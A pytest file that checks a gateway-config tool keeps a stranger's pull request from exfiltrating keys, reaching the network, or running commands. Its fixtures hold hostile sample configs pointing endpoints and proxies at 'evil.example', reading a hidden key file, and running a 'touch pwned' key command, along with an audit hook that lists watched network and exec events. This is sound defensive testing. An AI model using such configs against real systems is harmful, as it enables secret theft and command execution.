"""A pull request from a stranger: nothing that it says can reach a key, the network, a store, or run a command."""

from __future__ import annotations

import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.command import Gwctl
from tests.workflows.gateways import EXAMPLE, team
from tests.workflows.python import played_python

# Writes down what a plan must not do, before Python does it: https://docs.python.org/3/library/audit_events.html
HOOK = """
import os, sys
def hook(event, arguments):
    if event.startswith(("socket.", "subprocess.", "os.exec", "os.fork", "os.posix_spawn", "os.system")):
        said = event
    elif event == "open" and "hidden" in str(arguments[0]):
        said = f"open {arguments[0]}"
    elif event == "import" and arguments[0].partition(".")[0] in ("httpx", "psycopg", "obstore", "keyring"):
        said = f"import {arguments[0]}"
    else:
        return
    log = os.open(LOG, os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    os.write(log, f"{said}\\n".encode())
sys.addaudithook(hook)
"""
REACHING = """\
version: 1
name: acme-ai
state: postgresql://writer@127.0.0.1:5432/team
endpoints:
  litellm: {preset: litellm, base_url: 'https://evil.example', key: {env: TEAM_KEY}, store_key: keyring}
  file: {base_url: 'https://evil.example', key: {file: hidden.key}, headers: {X-A: {file: hidden.key}}, models: [m]}
  command: {base_url: 'https://evil.example', key: {command: [touch, pwned]}, models: [m]}
  kept: {base_url: 'https://evil.example', key: {keyring: a/b}, tls: {ca_file: company.pem}, models: [m]}
  proxied: {base_url: 'https://evil.example', proxy: 'http://evil.example:1', models: [m]}
"""


@pytest.fixture
def watched(actions, tmp_path: Path) -> Path:
    """The file that names what was tried; every Python of the run is watched, and has no network where that can be."""
    log = tmp_path / "tried.txt"
    (tmp_path / "hook").mkdir()
    (tmp_path / "hook" / "sitecustomize.py").write_text(HOOK.replace("LOG", repr(str(log))))
    actions.environ["PYTHONPATH"] = str(tmp_path / "hook")
    watched = f'exec {_without_network()} {sys.executable} -m reconciler "$@"'  # not isolated: it is to be watched
    actions.program("python", played_python(actions.pip, watched))
    return log


def _without_network() -> str:
    alone = ["unshare", "--map-root-user", "--net"]
    may = shutil.which("unshare") and subprocess.run([*alone, "true"], check=False, capture_output=True).returncode == 0
    return " ".join(alone) if may else ""


@pytest.mark.parametrize("against", ["base", "state"])
def test_the_example_is_planned_with_nothing_but_its_files(actions, repository, watched, against: str) -> None:
    repository.push({"gateway.yaml": EXAMPLE})
    ref = repository.pull({"gateway.yaml": EXAMPLE.replace("preset: litellm ", "base_url: https://evil.example")})
    run = actions.run("gateway-plan", ref, "pull_request", {"against": against}, fork=True)
    assert run.results == {"plan": "success", "comment": "success"}
    assert "evil.example" in run.summary
    assert not watched.exists(), watched.read_text()


def test_a_file_that_reaches_for_everything_reaches_nothing(actions, repository, watched, tmp_path) -> None:
    repository.push({"gateway.yaml": EXAMPLE, "hidden.key": "quokka-7f341d0"})
    actions.environ |= {"TEAM_KEY": "quokka-7f341d0", "GWCTL_ALLOW_COMMANDS": "1"}
    ref = repository.pull({"gateway.yaml": REACHING})
    run = actions.run("gateway-plan", ref, "pull_request", fork=True)
    assert run.results == {"plan": "success", "comment": "success"}
    assert not watched.exists(), watched.read_text()
    assert "quokka" not in run.log + run.summary
    assert not list(tmp_path.rglob("pwned"))


def test_the_watch_sees_what_it_is_to_see(actions, repository, watched) -> None:
    repository.push({"gateway.yaml": REACHING.replace("state:", "# state:"), "hidden.key": "quokka-7f341d0"})
    ref = repository.pull({})
    actions.environ["GWCTL_ALLOW_COMMANDS"] = "1"
    actions.run("gateway-apply", ref, "push", {"state": "file:state.json", "trust": "file"})
    tried = watched.read_text()
    assert all(each in tried for each in ("socket.", "open ", "hidden.key", "subprocess.Popen")), tried


class Listener:
    """A host that takes every connection and keeps every byte."""

    def __init__(self) -> None:
        self.heard = b""
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                client, _ = self._socket.accept()
            except OSError:
                return
            with client:
                client.settimeout(1)
                self.heard += b"connected;" + client.recv(65536)

    def close(self) -> None:
        """Stop listening."""
        self._socket.close()


@pytest.fixture
def other() -> Iterator[Listener]:
    """Another host than the recorded one."""
    listener = Listener()
    yield listener
    listener.close()


KEY = "quokka-7f341d0"
# Not on loopback, where a first use is free of asking.
ELSEWHERE = team("http://evil.invalid").replace("scope: shared", "scope: shared, insecure_http: true")


@pytest.fixture
def moved(actions, repository, server, other, tmp_path):
    """Main is applied; a pull request changes the base URL to the other host. Its ref."""
    server.lists("gpt")
    repository.push({"gateway.yaml": team(server.url)})
    given = {"state": f"file:{tmp_path / 'state.json'}", "trust": "file"}
    assert (
        actions.run("gateway-apply", "refs/heads/main", "push", given, f"TEAM_KEY={KEY}").results["apply"] == "success"
    )
    actions.environ |= {"HTTP_PROXY": other.url}  # whatever goes to that host comes by here
    return repository.pull({"gateway.yaml": ELSEWHERE})


@pytest.mark.parametrize("mode", ["offline", "no-keys"])
def test_a_changed_base_url_gets_not_a_byte_in_a_pull_request(actions, github, moved, other, mode: str) -> None:
    actions.environ["TEAM_KEY"] = KEY  # which no run has, and this one may as well
    run = actions.run("gateway-plan", moved, "pull_request", {"mode": mode})
    assert run.results == {"plan": "success", "comment": "success"}
    assert "evil.invalid" in github.comments[0]["body"]
    assert other.heard == b""


@pytest.mark.parametrize(
    "words", ["plan", "plan --scope shared", "plan --no-keys", "plan --offline", "apply", "apply -q"]
)
def test_nor_by_hand_with_the_key_at_hand(repository, tmp_path, moved, other, warm, words: str) -> None:
    gwctl = Gwctl(tmp_path / "clone", tmp_path, warm)
    subprocess.run(["git", "clone", "-q", str(repository.folder), str(gwctl.folder)], check=True)
    subprocess.run(["git", "fetch", "-q", "origin", moved], cwd=gwctl.folder, check=True)
    subprocess.run(["git", "checkout", "-q", "FETCH_HEAD"], cwd=gwctl.folder, check=True)
    result = gwctl(
        *words.split(), "--state", f"file:{tmp_path / 'state.json'}", code=None, TEAM_KEY=KEY, HTTP_PROXY=other.url
    )
    assert KEY not in result.out + result.err
    assert other.heard == b""


def test_once_merged_it_is_withheld_until_the_host_is_allowed_by_name(
    actions, repository, tmp_path, moved, other
) -> None:
    given = {"state": f"file:{tmp_path / 'state.json'}", "trust": "state"}
    repository.push({"gateway.yaml": ELSEWHERE})
    run = actions.run("gateway-apply", "refs/heads/main", "push", given, f"TEAM_KEY={KEY}")
    assert run.results == {"plan": "failure", "apply": "skipped"}
    assert "KEY_WITHHELD" in run.commands[-1][1]
    assert other.heard == b""
    given["allow-host"] = "team"
    actions.run("gateway-apply", "refs/heads/main", "workflow_dispatch", given, f"TEAM_KEY={KEY}")
    assert KEY.encode() in other.heard
